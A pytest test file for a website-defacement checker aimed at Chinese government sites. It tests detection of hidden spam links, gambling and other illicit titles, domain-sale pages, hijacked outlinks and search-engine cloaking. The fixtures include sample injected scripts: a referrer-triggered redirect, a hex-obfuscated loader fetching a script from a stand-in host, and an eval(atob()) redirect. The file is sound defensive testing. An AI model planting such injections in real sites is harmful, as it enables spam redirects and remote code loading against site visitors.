"""页面篡改: what pages show that their office did not write, and what only looks like it."""

from __future__ import annotations

from dataclasses import replace

import pytest
from read_tools import exchange, read
from report_help import report_of
from site_facts import HOME, WINDOWS, facts, home, link, named

from xuncha.checks.injection.check import observe
from xuncha.facts import Certainty, LinkKind, Outcome, SecondLook
from xuncha.read.intruders.outside import look_outside
from xuncha.read.intruders.signs import telling_signs
from xuncha.read.secondlook import offers_https, read_second_look

SPAM = "".join(f'<a href="http://www.z{n}-example.com/">词{n}</a>' for n in range(5))
BLOCK = f'<div style="display:none">{SPAM}</div>'
PLAIN = "<p>本县召开工作会议,部署下一阶段工作。</p>" * 20


def html(body: str, title: str = "示例县人民政府", head: str = "") -> str:
    return f"<html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


def seen(*pages: str, **changes):
    read_pages = [read(f"{HOME}p{n}.html", page) for n, page in enumerate(pages)]
    return observe(facts(signs=telling_signs(read_pages), **changes), WINDOWS)


def test_a_page_as_it_should_be_is_no_observation():
    assert seen(html(PLAIN)) == ()


def test_a_hidden_link_on_many_pages_is_one_suspicion_with_its_pages():
    found = named(seen(*[html(PLAIN + BLOCK)] * 3), "hidden_link")
    assert len(found) == 5
    first = found[0]
    assert first.url == "http://www.z0-example.com/"
    assert (first.certainty, first.count, first.parent_count) == (Certainty.SUSPECTED, 1, 3)
    assert first.parents[0] == f"{HOME}p0.html"
    assert first.record_id == f"urn:{HOME}p0.html"
    assert first.detail == {
        "text": "词0",
        "way": "display",
        "block_links": 5,
        "block_hosts": 5,
        "sells": False,
    }


@pytest.mark.parametrize(
    "source",
    [
        "https://hm.baidu.com/hm.js?1",
        "https://s4.cnzz.com/z_stat.php?id=1",
        "https://zfwzgl.www.gov.cn/exposure/jiucuo.js",
        "//dcs.conac.cn/js/1.js",
        "https://cdn.bootcss.com/jquery.js",
        "/js/jquery.js",
        "http://img.shili.gov.cn/a.js",
        "http://v3.jiathis.com/code/jia.js",
        "http://api.map.baidu.com/api?v=2.0",
    ],
)
def test_scripts_that_pages_may_load(source):
    assert seen(html(PLAIN + f'<script src="{source}"></script>')) == ()


def test_a_script_of_a_stranger():
    head = '<script src="https://kb-example.net.cn/js/kb.js"></script>'
    (found,) = seen(html(PLAIN, head=head), html(PLAIN, head=head))
    assert (found.name, found.url) == ("foreign_script", "https://kb-example.net.cn/js/kb.js")
    assert found.detail == {"element": "script", "host": "kb-example.net.cn"}
    assert (found.certainty, found.parent_count) == (Certainty.SUSPECTED, 2)


REDIRECT = (
    "<script>var r=document.referrer;if(/baidu|sogou/i.test(r)){"
    'window.location.href="http://www.z-example.com/"}</script>'
)
COUNTER = (
    "<script>var r=document.referrer; count(r.indexOf('baidu'))</script>"
    "<script>if(isMobile()){location.href='/m/'}</script>"
)
CODED = '<script>window["\\x64\\x6f\\x63\\x75\\x6d\\x65\\x6e\\x74"]["\\x77\\x72\\x69\\x74\\x65"]("\\x3cscript src=//a.example/b.js>\\x3c/script>")</script>'


@pytest.mark.parametrize(
    "script, tricks",
    [(REDIRECT, ["search_engine"]), (CODED, ["coded_script"]), (COUNTER, [])],
)
def test_tricks_of_scripts(script, tricks):
    assert [o.detail["trick"] for o in seen(html(PLAIN + script))] == tricks


@pytest.mark.parametrize(
    "title, is_sold",
    [
        ("澳门新葡京娱乐官网-百家乐", True),
        ("皇冠体育平台下载", True),
        ("警方捣毁一网络赌博平台 涉案百家乐赌资上亿元", False),
        ("关于严厉打击六合彩赌博活动的通告", False),
        ("体育彩票网点管理办法", False),
        ("关于公布高校毕业证领取时间的公告", False),
        ("示例县文化娱乐场所管理规定", False),
        ("示例县人民政府", False),
    ],
)
def test_titles_that_sell(title, is_sold):
    found = seen(html(PLAIN, title))
    assert [o.detail["where"] for o in found] == (["title"] if is_sold else [])


@pytest.mark.parametrize(
    "title, is_sold",
    [
        # The letters of such words in longer ones, and what honest people say.
        ("新时代孕育新机遇 在线访谈", False),
        ("巴特码头免费开放", False),
        ("预约炮台公园门票官方平台", False),
        ("水乡风情色彩 在线赏析", False),
        ("Java在线学习平台", False),
        ("三级片区规划图下载", False),
        ("体育彩票网点在线查询", False),
        ("主题教育升华体会 首页", False),
        ("老年人文化娱乐平台上线", False),
        ("普通高中毕业证书查询平台入口", False),
        ("个人代开发票网上平台操作指南", False),
        ("照片jpg电子版下载平台", False),
        ("耐克体育(中国)有限公司官方网站", False),
        ("百家乐业主题园开园 官方平台", False),
        ("体育投注站点查询平台", False),
        # The same trades as they present themselves.
        ("星空体育·(中国)官方网站", True),
        ("爱游戏AYX(中国)体育官方网站入口", True),
        ("PG电子·模拟器试玩在线", True),
        ("代开发票【微信同步】先开后付", True),
        ("代孕公司官网", True),
        ("Hacked by Nobody", True),
        ("网络安全周:Hacked by 一类篡改怎样防", False),
    ],
)
def test_titles_that_sell_and_their_lookalikes(title, is_sold):
    assert bool(seen(html(PLAIN, title))) == is_sold


def led(code: str) -> str:
    return html(f"{PLAIN}<script>{code}</script>")


@pytest.mark.parametrize(
    "page, names",
    [
        (
            led("if(/iPhone/.test(navigator.userAgent)){location.href='//m.z-1.com/'}"),
            ["script_trick"],
        ),
        (led(f"if(/iPhone/.test(navigator.userAgent)){{location.href='{HOME}wap/'}}"), []),
        (led("eval(atob('bG9jYXRpb24uaHJlZj0iaHR0cDovLyI7'))"), ["script_trick"]),
        (led("var d=JSON.parse(atob('eyJhIjoxLCJiIjoyLCJjIjozfQ=='))"), []),
        (
            led("var s=document.createElement('script');s.src='https://js.z-1.com/a.js'"),
            ["foreign_script"],
        ),
        (led("var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js'"), []),
        (led("var s=document.createElement('img');s.src='https://js.z-1.com/a.gif'"), []),
    ],
)
def test_more_tricks_of_scripts(page, names):
    assert [one.name for one in seen(page)] == names


def test_keywords_and_text_that_sell():
    head = '<meta name="keywords" content="百家乐,时时彩,老虎机,真人娱乐,博彩网">'
    (found,) = seen(html(PLAIN, head=head))
    assert found.detail["where"] == "keywords"
    assert found.detail["words"] == ["百家乐", "时时彩", "老虎机", "真人娱乐", "博彩网"]
    goods = "新葡京 百家乐 时时彩 老虎机 真人娱乐 体育投注 六合彩 娱乐城 最新网址 " * 3
    (found,) = seen(html(f"<div><p>{goods}</p></div>"))
    assert (found.name, found.detail["where"]) == ("page_defaced", "text")


def test_a_title_in_numbers_on_a_plain_page():
    coded = "".join(f"&#{ord(c)};" for c in "某某某某某某网")
    (found,) = seen(html(PLAIN, coded))
    assert found.detail["where"] == "coded_title"
    # A page that is written in numbers altogether has a habit, not an intruder.
    all_coded = "".join(f"&#{ord(c)};" for c in "本县召开工作会议部署工作" * 20)
    assert seen(html(f"<p>{all_coded}</p>", coded)) == ()


@pytest.mark.parametrize(
    "title, body, is_sold",
    [
        ("abc.com 域名出售", "<h1>abc.com</h1><p>一口价28000元</p>", True),
        ("abc.com", "<p>该域名正在出售,本域名可转让</p>", True),
        ("abc.com", "<p>Buy this domain today</p>", True),
        ("闲置域名转让公告", "<p>现将闲置域名三个公开转让,有意者报名。</p>", False),
        ("域名管理办法", PLAIN + "<p>注册期满后,该域名可以转让。</p>" + PLAIN, False),
    ],
)
def test_a_page_of_the_site_that_offers_its_domain(title, body, is_sold):
    found = seen(html(body, title))
    assert [one.detail["where"] for one in found] == (["for_sale"] if is_sold else [])
    assert all(one.certainty is Certainty.SUSPECTED for one in found)


def outlink(url: str, **changes):
    return link(url, kind=LinkKind.EXTERNAL, final_url=changes.pop("final_url", url), **changes)


def body_of(url: str, title: str, text: str):
    return look_outside(exchange(url, html(f"<p>{text}</p>", title)))


@pytest.mark.parametrize(
    "title, text, sign",
    [
        ("abc.com 域名出售", "联系我们", "for_sale"),
        ("abc.com", "This domain is for sale. Buy this domain.", "for_sale"),
        ("您访问的域名", "此域名正在出售,欢迎联系", "for_sale"),
        ("abc.com", "abc.com may be for sale. Inquire about this domain.", "for_sale"),
        ("示例网络-域名注册、虚拟主机", "公司提供虚拟主机、SEO优化服务", None),
        ("演练科普协会", "协会近期举办域名出售法律问题讲座", None),
        ("太阳城娱乐城开户", "欢迎", "gambling"),
        ("成人电影在线免费", "欢迎", "porn"),
        ("示例集团有限公司", "公司成立于一九九八年", None),
        ("网络赌博案件通报:百家乐", "警方侦破一起案件", None),
        ("域名管理办法", "第一条 为规范互联网域名服务,制定本办法。" * 100, None),
    ],
)
def test_what_a_target_has_become(title, text, sign):
    found = body_of("http://www.abc.com/", title, text)
    assert (found.sign if found else None) == sign


def test_a_hijacked_outlink_names_its_pages_and_its_evidence():
    url = "http://www.abc.com/"
    outside = body_of(url, "太阳城娱乐城开户", "欢迎")
    (found,) = observe(facts(links=(outlink(url),), outside=(outside,)), WINDOWS)
    assert (found.name, found.certainty) == ("outlink_hijacked", Certainty.SUSPECTED)
    assert found.detail["sign"] == "gambling"
    assert found.parents == (f"{HOME}news/",)
    assert found.record_id == f"urn:{url}"


def test_a_target_that_leads_to_a_dealer_in_names():
    sold = outlink("http://www.abc.com/", final_url="https://www.sedo.com/search/?domain=abc.com")
    (found,) = observe(facts(links=(sold,)), WINDOWS)
    assert found.detail["sign"] == "for_sale"


def test_a_head_alone_says_nothing_of_a_target():
    assert observe(facts(links=(outlink("http://www.abc.com/"),)), WINDOWS) == ()


def test_a_visible_link_that_sells():
    sold = outlink("http://www.abc.com/", anchor_text="威尼斯人娱乐城官网")
    (found,) = observe(facts(links=(sold,)), WINDOWS)
    assert found.detail["sign"] == "gambling"


def test_a_hidden_link_that_sells_is_one_suspicion_and_not_two():
    one = '<a href="http://www.abc.com/">澳门新葡京娱乐官网</a>'
    page = html(PLAIN + f'<div style="display:none">{one}</div>')
    sold = outlink("http://www.abc.com/", anchor_text="澳门新葡京娱乐官网")
    assert [o.name for o in seen(page, links=(sold,))] == ["hidden_link"]


ORDINARY = html(PLAIN + '<a href="http://www.firm-a.com/">a</a>')


@pytest.mark.parametrize(
    "answer, difference",
    [
        (ORDINARY, None),
        (html(PLAIN + '<a href="http://www.firm-b.com/">b</a>'), None),
        (html(PLAIN + SPAM), "links"),
        (html(PLAIN, "百家乐开户平台"), "title"),
    ],
)
def test_the_home_page_as_search_engines_get_it(answer, difference):
    look = read_second_look(exchange(HOME, answer), read(HOME, ORDINARY))
    found = observe(facts(second_look=look), WINDOWS)
    assert [o.detail["difference"] for o in found] == ([difference] if difference else [])


def test_a_search_engine_that_is_led_away():
    moved = replace(exchange(HOME, html(PLAIN)), final_url="http://www.z-example.com/")
    look = read_second_look(moved, read(HOME, ORDINARY))
    (found,) = observe(facts(second_look=look), WINDOWS)
    assert found.detail["difference"] == "led_away"
    assert found.detail["led_to"] == "http://www.z-example.com/"


def test_a_firewall_that_turns_search_engines_away_says_nothing():
    turned_away = replace(exchange(HOME, ""), outcome=Outcome.BLOCKED, status=403)
    assert read_second_look(turned_away, read(HOME, ORDINARY)) is None
    assert read_second_look(None, read(HOME, ORDINARY)) is None
    assert read_second_look(exchange(HOME, ORDINARY), None) is None


@pytest.mark.parametrize(
    "changes, offered",
    [
        ({"final_url": "https://www.shili.gov.cn/", "status": 200}, True),
        ({"final_url": "https://www.shili.gov.cn/", "status": 404}, True),
        ({"final_url": "http://www.shili.gov.cn/", "status": 200}, False),
        ({"outcome": Outcome.CONNECT_REFUSED, "status": None}, False),
        ({"outcome": Outcome.TLS, "status": None}, False),
        ({"outcome": Outcome.TIMEOUT, "status": None}, None),
    ],
)
def test_whether_https_is_offered(changes, offered):
    assert offers_https(replace(home(), **changes)) is offered


def test_suspicions_leave_the_veto_open_and_the_clause_to_a_person():
    signs = telling_signs([read(f"{HOME}p.html", html(PLAIN + BLOCK))])
    report = report_of(facts(signs=signs), "inspection-2019")
    (veto,) = [row for row in report["indicators"] if row["id"] == "C19-V1"]
    assert veto["state"] == "undetermined"
    assert report["verdict"] != "fail"
    assert len(veto["findings"]) == 5
    report = report_of(facts(signs=signs), "guideline-2017")
    (clause,) = [row for row in report["indicators"] if row["id"] == "G17-P10"]
    assert (clause["state"], len(clause["findings"])) == ("undetermined", 5)


def test_a_second_look_of_nothing_is_no_difference():
    look = SecondLook(extra_links=(), title="", ordinary_title="示例县人民政府")
    assert observe(facts(second_look=look), WINDOWS) == ()
